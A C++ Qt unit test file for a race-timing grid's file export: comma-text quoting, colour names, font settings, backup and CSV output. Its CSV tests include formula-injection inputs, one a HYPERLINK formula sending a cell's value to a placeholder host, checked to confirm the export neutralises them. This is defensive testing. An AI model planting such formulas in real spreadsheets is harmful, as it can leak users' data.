// SPDX-FileCopyrightText: 2024-2026 Rennzeit developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "grid/GridColors.h"
#include "grid/GridFiles.h"
#include "gridstore/GridCommaText.h"

#include "support/TestSupport.h"

#include <QDir>
#include <QFile>
#include <QPalette>
#include <QTemporaryDir>
#include <QTest>

namespace {

TCellStore protocolStore()
{
    TCellStore store(7, 5);
    store.SetRow(0, { "Nr.", "Name", "Start", "Zeit", "Split", "Platz", "*" });
    store.SetRow(1, { "3", "Berg", "", "", "", "-", "" });
    store.SetRow(2, { "12", "Anna Maier", "9:05.10,00", "1.05,12", "0,00", "1", "65120" });
    store.SetRow(3, { "7", "Max \"Turbo\" Müller", "", "", "", "", "" });
    return store; // row 4 stays empty
}

} // namespace

class TestGridFiles : public QObject {
    Q_OBJECT

private slots:
    void commaText_quotesBlanksCommasAndQuotes_data()
    {
        QTest::addColumn<QStringList>("items");
        QTest::addColumn<QString>("expected");
        QTest::newRow("plain") << QStringList { "3", "Berg", "", "-", "" } << "3,Berg,,-,";
        QTest::newRow("blank") << QStringList { "Anna Maier" } << "\"Anna Maier\"";
        QTest::newRow("comma") << QStringList { "1.05,12", "x" } << "\"1.05,12\",x";
        QTest::newRow("quote") << QStringList { "Max \"Turbo\"" } << "\"Max \"\"Turbo\"\"\"";
        QTest::newRow("tab") << QStringList { "a\tb" } << "\"a\tb\"";
        QTest::newRow("umlaut") << QStringList { "Müller" } << "Müller";
        QTest::newRow("single empty") << QStringList { "" } << "\"\"";
        QTest::newRow("none") << QStringList {} << "";
    }
    void commaText_quotesBlanksCommasAndQuotes()
    {
        QFETCH(QStringList, items);
        QFETCH(QString, expected);
        QCOMPARE(CommaText(items), expected);
        if (!items.isEmpty() && !(items.size() == 1 && items[0].isEmpty()) && !items.contains(QString()))
            QCOMPARE(SplitCommaText(expected), items);
    }

    void splitCommaText_unquotedBlankEndsAnItem()
    {
        QCOMPARE(SplitCommaText(QStringLiteral(" a b, \"c,d\" ,e")), (QStringList { "a", "b", "c,d", "e" }));
    }

    void colourNames()
    {
        QCOMPARE(ColorToString(0x0000FF), QStringLiteral("clRed"));
        QCOMPARE(ColorToString(0x000000), QStringLiteral("clBlack"));
        QCOMPARE(ColorToString(0xC0C0C0), QStringLiteral("clSilver"));
        QCOMPARE(ColorToString(static_cast<TColor>(0xFF00000F)), QStringLiteral("clBtnFace"));
        QCOMPARE(ColorToString(0x1FFFFFFF), QStringLiteral("clNone"));
        QCOMPARE(ColorToString(0x20000000), QStringLiteral("clDefault"));
        QCOMPARE(ColorToString(0x00ABCDEF), QStringLiteral("$00ABCDEF"));
        QCOMPARE(ColorToString(static_cast<TColor>(0xFF0000FE)), QStringLiteral("$FF0000FE"));
        bool ok = false;
        QCOMPARE(StringToColor(QStringLiteral("clAqua"), &ok), 0xFFFF00);
        QVERIFY(ok);
        QCOMPARE(StringToColor(QStringLiteral("$00FF8040"), &ok), 0x00FF8040);
        QVERIFY(ok);
        QCOMPARE(StringToColor(QStringLiteral("clBtnFace")), static_cast<TColor>(0xFF00000F));
        StringToColor(QStringLiteral("Purpur"), &ok);
        QVERIFY(!ok);
        QCOMPARE(ColorToQColor(0x0000FF, QPalette()), QColor(255, 0, 0));
    }

    void fontSettingText_roundTrip()
    {
        TFontSetting setting;
        QCOMPARE(FontSettingText(setting), QStringLiteral("clBlack,0,0,0,clBlack"));
        setting.Color = 0x0000FF;
        setting.Italic = true;
        setting.BackColor = 0x00102030;
        setting.Active = true;
        QCOMPARE(FontSettingText(setting), QStringLiteral("clRed,0,1,0,$00102030"));
        TFontSetting read;
        ReadFontSettingText(FontSettingText(setting), read);
        QCOMPARE(read.Color, setting.Color);
        QCOMPARE(read.BackColor, setting.BackColor);
        QVERIFY(read.Italic && !read.Bold && !read.Underline);
        QVERIFY(!read.Active);
    }

    void fontList_followsCountChanges()
    {
        TFontList list(2);
        AdjustFontList(list, 3);
        QCOMPARE(list.size(), size_t(5));
        list[4].Bold = true;
        MoveFontEntry(list, 4, 1);
        QVERIFY(list[1].Bold);
        AdjustFontList(list, -7);
        QCOMPARE(list.size(), size_t(0));
    }

    void backupFile_exactBytes()
    {
        TGridBackupSettings settings;
        settings.ColFonts.resize(2);
        settings.ColFonts[1].Bold = true;
        settings.RowFonts.resize(1);
        settings.UserSettings = { "Lauf 1" };
        const QByteArray expected = "GenerelSettings,0\r\n"
                                    "FontColSettings,\"clBlack,0,0,0,clBlack\",\"clBlack,1,0,0,clBlack\"\r\n"
                                    "FontRowSettings,\"clBlack,0,0,0,clBlack\"\r\n"
                                    "UserSettings,\"Lauf 1\"\r\n"
                                    "UserSettings,\"Lauf 1\",-1,-1,-1,-1,-1,-1,-1,-1,-1,-1,-1\r\n"
                                    "Nr.,Name,Start,Zeit,Split,Platz,*\r\n"
                                    "3,Berg,,,,-,\r\n"
                                    "12,\"Anna Maier\",\"9:05.10,00\",\"1.05,12\",\"0,00\",1,65120\r\n"
                                    "7,\"Max \"\"Turbo\"\" M\xC3\xBCller\",,,,,\r\n"
                                    ",,,,,,\r\n";
        QCOMPARE(GridBackupBytes(protocolStore(), settings), expected);
    }

    void backupFile_geometryForm()
    {
        TCellStore store(2, 2);
        store.SetRow(0, { "A", "B" });
        TGridBackupSettings settings;
        settings.Geometry = { 10, 20, 300, 200, 46, -1 };
        QCOMPARE(GridBackupBytes(store, settings),
            QByteArray("GenerelSettings,0\r\nFontColSettings\r\n"
                       "FontRowSettings\r\nUserSettings\r\n"
                       "10,20,300,200,46,-1\r\nA,B\r\n,\r\n"));
    }

    void csv_plainCellsStayAsTheyAre_commasAndQuotesAreQuoted()
    {
        const QByteArray expected = "Nr.;Name;Start;Zeit;Split;Platz;*\r\n"
                                    "3;Berg;;;;-;\r\n"
                                    "12;Anna Maier;\"9:05.10,00\";\"1.05,12\";\"0,00\";1;65120\r\n"
                                    "7;\"Max \"\"Turbo\"\" M\xC3\xBCller\";;;;;\r\n"
                                    ";;;;;;\r\n";
        QCOMPARE(GridCsvBytes(protocolStore()), expected);
    }

    void csvCell_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("written");
        QTest::newRow("plain name") << "Berg"
                                    << "Berg";
        // A spreadsheet set to split at commas would cut a time in two, and
        // trims blanks at a cell's ends: quoted, both come back whole.
        QTest::newRow("time with comma") << "1.05,12"
                                         << "\"1.05,12\"";
        QTest::newRow("tab inside") << "a\tb"
                                    << "\"a\tb\"";
        QTest::newRow("leading blank before a formula") << " =3+3"
                                                        << "\" =3+3\"";
        QTest::newRow("trailing blank") << "Berg "
                                        << "\"Berg \"";
        QTest::newRow("blank inside") << "Anna Berg"
                                      << "Anna Berg";
        QTest::newRow("lone dash of a free row") << "-"
                                                 << "-";
        QTest::newRow("negative number") << "-12"
                                         << "-12";
        QTest::newRow("signed decimal") << "+3,5"
                                        << "\"+3,5\""; // no formula, but a comma
        QTest::newRow("empty") << ""
                               << "";
        QTest::newRow("formula") << "=1+1"
                                 << "\"'=1+1\"";
        QTest::newRow("link formula with quotes and ;")
            << "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")"
            << "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1;\"\"klick\"\")\"";
        QTest::newRow("plus") << "+49 170 1234"
                              << "\"'+49 170 1234\"";
        QTest::newRow("minus text") << "-Berg"
                                    << "\"'-Berg\"";
        QTest::newRow("at") << "@SUM(A1)"
                            << "\"'@SUM(A1)\"";
        QTest::newRow("tab first") << "\t=1"
                                   << "\"'\t=1\"";
        QTest::newRow("cr first") << "\r=1"
                                  << "\"'\r=1\"";
        QTest::newRow("semicolon") << "Berg; Anna"
                                   << "\"Berg; Anna\"";
        QTest::newRow("line break") << "Zeile 1\r\nZeile 2"
                                    << "\"Zeile 1\r\nZeile 2\"";
        QTest::newRow("own apostrophe, plain") << "'=x"
                                               << "'=x";
        QTest::newRow("own apostrophe, quoted for ;") << "'=x;y"
                                                      << "\"''=x;y\"";
        QTest::newRow("apostrophe text quoted for ;") << "'a;b"
                                                      << "\"'a;b\"";
        QTest::newRow("equals later") << "a=b"
                                      << "a=b";
    }

    void csvCell()
    {
        QFETCH(QString, cell);
        QFETCH(QString, written);
        QCOMPARE(CsvCellText(cell), written);
    }

    void writeGridFile_reportsFailures()
    {
        QTemporaryDir dir;
        const QString name = dir.filePath(QStringLiteral("out.txt"));
        QVERIFY(WriteGridFile(name, "abc\r\n"));
        QCOMPARE(ReadFileBytes(name), QByteArray("abc\r\n"));
        QVERIFY(WriteGridFile(name, "x")); // truncates
        QCOMPARE(ReadFileBytes(name), QByteArray("x"));
        QVERIFY(!WriteGridFile(dir.filePath(QStringLiteral("missing/out.txt")), "abc"));
        QVERIFY(!WriteGridFile(dir.path(), "abc")); // a folder
        QVERIFY(!WriteGridFile(QString(), "abc"));
        if (QFile::exists(QStringLiteral("/dev/full")))
            QVERIFY(!WriteGridFile(QStringLiteral("/dev/full"), QByteArray(100000, 'x'))); // disk full
        QCOMPARE(GridWriteErrorText(QStringLiteral("a.txt")),
            QStringLiteral("Can't write to file:\r") + QDir::current().absoluteFilePath(QStringLiteral("a.txt")));
    }
};

QTEST_GUILESS_MAIN(TestGridFiles)
#include "tst_gridfiles.moc"
